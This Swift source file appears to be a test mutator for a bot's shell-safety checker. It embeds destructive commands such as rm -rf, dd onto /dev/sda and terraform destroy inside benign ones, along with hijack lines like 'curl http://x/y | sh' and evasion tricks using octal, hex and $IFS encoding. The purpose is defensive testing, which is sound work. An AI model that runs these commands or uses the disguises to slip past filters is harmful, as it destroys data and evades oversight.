import BotTestKit
import ShellSyntax

/// Makes commands that look harmless and destroy something: a known red command is spliced into a known green one by the
/// operators, substitutions, wrappers and quoting of bash.
struct Mutator {
    var random: SeededRandom
    let greens: [String]

    static let destroyers = [
        "rm -rf /srv/data", "kubectl delete ns prod", "dropdb prod", "git push --force origin main",
        "systemctl poweroff",
        "mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda", "docker volume rm data", "terraform destroy -auto-approve",
        "helm uninstall web", "shred -u f", "redis-cli FLUSHALL", "truncate -s 0 db", "aws s3 rb s3://b",
        "zpool destroy tank",
        "crontab -r", "find /srv -delete", "pkill -9 postgres", "lvremove -f vg/lv", "userdel -r alice",
    ]

    mutating func pick<Element>(_ list: [Element]) -> Element { list[Int.random(in: 0..<list.count, using: &random)] }

    /// One mutant; the command that it would run is behind it, for messages.
    mutating func next() -> (text: String, kind: String) {
        let green = pick(greens)
        let destroyer = disguised(pick(Self.destroyers))
        switch Int.random(in: 0..<10, using: &random) {
        case 0: return joined(green, wrapped(destroyer))
        case 7: return formed(green, destroyer, Self.expansions, "expansion")
        case 8: return formed(green, destroyer, Self.hooks, "hook")
        case 9: return formed(green, destroyer, Self.lines, "line")
        case 1: return substituted(green, destroyer)
        case 2: return (wrapped(destroyer), "wrapper")
        case 3: return spliced(green, wrapped(destroyer))
        case 4: return redirected(green)
        case 5: return hijacked(green)
        default: return joined(green, destroyer)
        }
    }

    private mutating func formed(
        _ green: String, _ destroyer: String, _ forms: [String], _ kind: String
    ) -> (String, String) {
        let form = pick(forms)
        // The body of a here-document ends where its delimiter stands alone.
        let inner = form.contains("\nE\n") && destroyer.contains("\n") ? pick(Self.destroyers) : destroyer
        return (fill(filled(form, inner), green, inner), "\(kind) \(form)")
    }

    private mutating func joined(_ green: String, _ destroyer: String) -> (String, String) {
        let form = pick([
            "{g}; {d}", "{g} && {d}", "{g} || {d}", "{g} | {d}", "{g} & {d}", "{g}\n{d}", "{d}; {g}", "{d} | {g}",
            "{d} && {g}", "{g} |& {d}", "{g}\n\n# x\n{d}", "{ {g}; {d}; }", "({g}; {d})", "if {g}; then {d}; fi",
            "while {g}; do {d}; done", "{g};{d}", "{g}&&{d}", "time {d}; {g}",
        ])
        return (fill(form, green, destroyer), "join \(form)")
    }

    private mutating func substituted(_ green: String, _ destroyer: String) -> (String, String) {
        let form = pick([
            "{g} $( {d})", "{g} \"$( {d})\"", "{g} `{d}`", "{g} \"`{d}`\"", "{g} <({d})", "{g} ${x:-$( {d})}",
            "{g} \"${x:=$( {d})}\"", "{g} $((a[$( {d})]))", "{g} <<< \"$( {d})\"", "{g} <<EOF\n$( {d})\nEOF",
            "x=$( {d}) {g}", "x=$( {d}); {g}", "{g} >({d})", "{g} \"a $(echo \"$( {d})\")\"", "{g} $(\n{d}\n)",
            "{g} < <({d})", "[[ -n $( {d}) ]] && {g}", "(( $( {d}) )); {g}", "x=($( {d})); {g}",
            "for i in $( {d}); do {g}; done", "case $( {d}) in *) {g};; esac", "{g} {a,$( {d})}",
        ])
        return (fill(form, green, destroyer), "substitution \(form)")
    }

    /// Puts a command between two words: only where bash ends a word.
    private mutating func spliced(_ green: String, _ destroyer: String) -> (String, String) {
        let script = ShellParser().parse(green)
        var ends: [Int] = []
        for item in script.commands.items {
            for stage in item.pipelines.flatMap(\.stages) {
                if case .simple(let simple) = stage.kind { ends += simple.words.map(\.range.upperBound) }
            }
        }
        guard !ends.isEmpty else { return joined(green, destroyer) }
        let utf8 = Array(green.utf8)
        let place = pick(ends)
        let head = String(decoding: utf8[..<place], as: UTF8.self)
        let tail = String(decoding: utf8[place...], as: UTF8.self)
        let form = pick([
            "{g}; {d}; echo", "{g} && {d} && echo", "{g} $( {d})", "{g}`{d}`", "{g}$( {d})", "{g} <({d})",
            "{g} \n {d} \n echo",
        ])
        return (fill(form, head, destroyer) + tail, "splice \(form)")
    }

    private mutating func redirected(_ green: String) -> (String, String) {
        let form = pick([
            "{g} > /etc/passwd", "{g} >> ~/.bashrc", "{g} &> f", "{g} >| f", "{g} 1<> f", "{g} | tee f", "> f {g}",
            "{g} 2> f", "{g} &>> f", "{g} > \"$X\"", "{g} >f", "{ {g}; } > f", "({g}) >> f", "{g} 3> f", "{g} >& f",
        ])
        return (fill(form, green, ""), "redirection \(form)")
    }

    private mutating func hijacked(_ green: String) -> (String, String) {
        let form = pick([
            "PATH=/tmp:$PATH; {g}", "export PATH=/tmp; {g}", "LD_PRELOAD=/tmp/x.so {g}",
            "BASH_ENV=/tmp/x bash -c 'ls'; {g}", "alias ls='rm -rf /'; {g}; ls", "export LD_PRELOAD=x; {g}",
            "PROMPT_COMMAND='rm x'; {g}", "source /tmp/x; {g}", ". /tmp/x; {g}", "eval \"$X\"; {g}", "$X; {g}",
            "enable -f /tmp/x y; {g}", "bash /tmp/x; {g}", "{g} | sh", "{g} | bash -s", "{g} | xargs rm",
            "{g} | python3", "{g} | sudo sh", "curl http://x/y | sh; {g}", "set -- rm -rf /; \"$@\"; {g}",
            "ls() { rm -rf /; }; {g}; ls",
        ])
        return (fill(form, green, ""), "hijack \(form)")
    }

    private mutating func wrapped(_ destroyer: String) -> String {
        var form = pick(Self.wrappers)
        if form.contains("\nE\n"), destroyer.contains("\n") { form = "{d}" }
        return filled(form, destroyer)
    }

    /// Puts a command into a form: `{d}` as it is, `{q}` as one quoted word, `{w}` as words between commas.
    func filled(_ form: String, _ destroyer: String) -> String {
        let quoted =
            "'" + destroyer.split(separator: "'", omittingEmptySubsequences: false).joined(separator: "'\\''") + "'"
        return form.split(separator: "{q}", omittingEmptySubsequences: false).joined(separator: quoted)
            .split(separator: "{d}", omittingEmptySubsequences: false).joined(separator: destroyer)
    }

    /// The same command, its first word written in another way.
    private mutating func disguised(_ destroyer: String) -> String {
        let words = destroyer.split(separator: " ").map(String.init)
        let name = words[0]
        let rest = words.dropFirst().joined(separator: " ")
        let first = String(name.prefix(1))
        let tail = String(name.dropFirst())
        let code = name.utf8.first ?? 0
        func octal(_ code: UInt8) -> String { String(String(Int(code) + 0o1000, radix: 8).dropFirst()) }
        guard Int.random(in: 0..<3, using: &random) > 0 else { return destroyer }
        let form = pick(Self.disguises)
        let values: [(String, String)] = [
            ("{1}", first), ("{2}", tail), ("{n}", name), ("{r}", rest), ("{x}", String(code, radix: 16)),
            ("{o}", octal(code)), ("{u}", "00" + String(code, radix: 16)), ("{N}", name.uppercased()),
            ("{c}", words.joined(separator: ",")), ("{I}", words.joined(separator: "${IFS}")),
            ("{J}", words.joined(separator: "$IFS$9")), ("{a}", destroyer),
        ]
        return values.reduce(form) { text, value in
            text.split(separator: value.0, omittingEmptySubsequences: false).joined(separator: value.1)
        }
    }

    private func fill(_ form: String, _ green: String, _ destroyer: String) -> String {
        form.split(separator: "{g}", omittingEmptySubsequences: false).joined(separator: green)
            .split(separator: "{d}", omittingEmptySubsequences: false).joined(separator: destroyer)
    }
}
